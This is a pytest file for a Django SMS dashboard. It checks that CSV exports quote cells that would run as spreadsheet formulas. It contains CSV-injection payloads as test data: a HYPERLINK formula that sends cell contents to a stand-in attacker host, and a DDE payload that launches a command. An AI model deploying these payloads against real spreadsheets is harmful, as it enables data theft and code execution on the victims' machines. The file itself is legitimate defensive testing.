"""CSV exports are safe to open in a spreadsheet: no cell a provider wrote runs as a formula."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.test import Client

from deliveries.bulk import values_stream
from deliveries.csv_export import csv_row
from deliveries.models import Campaign, Message
from deliveries.views.exports import MESSAGE_COLUMNS

from ..factories import make_user
from ..helpers import fixture_bytes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+919876543210", "+91 98••••3210", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
    assert csv_row([text, 1]) == ["'" + text, 1]


@pytest.mark.parametrize(
    "value", ["JIO", "", "0.9342", "order_ORD2847", " =1", -5, -1.5, Decimal("-2.5"), 0, None]
)
def test_other_text_and_real_numbers_are_written_as_they_are(value):
    # Numbers are ours (counts, rates, latencies): a negative one is still a number.
    assert csv_row([value]) == [value]


@pytest.fixture
def hostile_message(post_smstake) -> None:
    """A genuine, signed SMSTAKE report whose provider-written fields hold formulas."""
    body = json.loads(fixture_bytes("smstake", "failed.json"))
    body |= {"operator": FORMULA, "error_code": "-1+1", "client_ref": "@cmd|' /c calc'!A0"}
    assert post_smstake(json.dumps(body).encode()).status_code == 200


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def manager() -> Client:
    user = make_user("Campaign manager", username="meera")
    client = Client()
    client.force_login(user)
    return client


def test_the_message_export_quotes_every_cell_that_starts_like_a_formula(
    db, hostile_message, manager
):
    header, row = rows_of(manager.get("/dashboard/export/messages.csv"))
    cell = dict(zip(header, row, strict=True))

    assert cell["operator"] == "'" + FORMULA
    assert cell["error_code"] == "'-1+1"
    assert cell["client_ref"] == "'@cmd|' /c calc'!A0"
    assert cell["to"] == "'+91 98••••3210"  # masked numbers start with "+" too
    assert cell["id"].isdigit()


def test_the_breakdown_export_quotes_a_formula_in_a_group_name(db, hostile_message, manager):
    window = {"range": "custom", "since": "2026-06-29T00:00", "until": "2026-07-01T00:00"}
    header, *groups = rows_of(manager.get("/dashboard/export/operator.csv", window))

    assert [(row[0], row[1]) for row in groups] == [("'" + FORMULA, "'" + FORMULA)]
    assert groups[0][header.index("sent")] == "1"  # counts stay numbers


@pytest.mark.django_db
def test_the_streamed_read_gives_the_rows_the_queryset_gives():
    """On PostgreSQL the export reads through a cursor of its own (psycopg's timestamp
    loader): the same values, time zones included, whatever the chunk boundaries."""
    campaign = Campaign.objects.create(name="Promo", ref_prefix="promo_")
    at = datetime(2026, 11, 20, 10, 15, 3, 120000, tzinfo=UTC)
    for i in range(5):
        Message.objects.create(
            provider="smstake",
            message_id=f"m{i}",
            to="+919876543210",
            campaign=campaign if i % 2 else None,
            submitted_at=at + timedelta(seconds=i) if i != 3 else None,
            delivered_at=at + timedelta(microseconds=i),
        )
    rows = Message.objects.order_by("-created_at", "-id").values_list(*MESSAGE_COLUMNS)

    streamed = list(values_stream(rows, chunk=2))

    assert streamed == list(rows) and len(streamed) == 5
    assert [str(row[10]) for row in streamed][-1] == "2026-11-20 10:15:03.120000+00:00"
